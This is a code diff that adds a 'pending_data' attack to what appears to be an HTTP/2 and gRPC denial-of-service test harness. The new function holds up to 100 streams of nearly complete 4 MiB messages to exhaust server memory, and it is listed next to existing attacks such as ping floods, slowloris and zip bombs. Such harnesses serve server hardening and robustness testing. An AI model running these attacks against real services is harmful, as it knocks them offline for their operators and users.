@@ -404,6 +404,34 @@ def small_data(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=4
     return c, out
 
 
+def pending_data(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=100):
+    """Request messages of 4 MiB on every stream the limit allows, each sent
+    but for its last byte and held: the 1.51 core grants window for whole
+    messages and keeps every byte until the message completes (400 MB on
+    one connection, for as long as the client likes)."""
+    out = Outcome("pending_data")
+    c = Conn(port, out)
+    block = request_block(port, GET)
+    size = (4 << 20) - 5
+    msg = grpc_message(b"\x0a" * (size - 1), announced=size)
+    deadline = out.started + seconds
+    for i in range(streams):
+        if not c.send(frame(HEADERS, END_HEADERS, 1 + 2 * i, block), deadline):
+            break
+        out.streams += 1
+    for off in range(0, len(msg), 16384):
+        part = msg[off:off + 16384]
+        for i in range(out.streams):
+            if c.closed or out.sent >= max_bytes or not c.take_credit(len(part), deadline) or \
+                    not c.send(frame(DATA, 0, 1 + 2 * i, part), deadline):
+                break
+        if c.closed or time.monotonic() >= deadline or out.sent >= max_bytes:
+            break
+    while time.monotonic() < deadline and not c.closed:  # hold it
+        time.sleep(0.05)
+    return c, out
+
+
 def ping_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
     """PINGs as fast as the socket takes them; the PONGs are never read."""
     out = Outcome("ping_flood")
@@ -627,6 +655,7 @@ ATTACKS = {
     "settings_flood": settings_flood, "slowloris": slowloris,
     "unacked_settings": unacked_settings, "made_you_reset": made_you_reset,
     "zip_bomb": zip_bomb, "goaway_flood": goaway_flood, "small_data": small_data,
+    "pending_data": pending_data,
 }
 
 
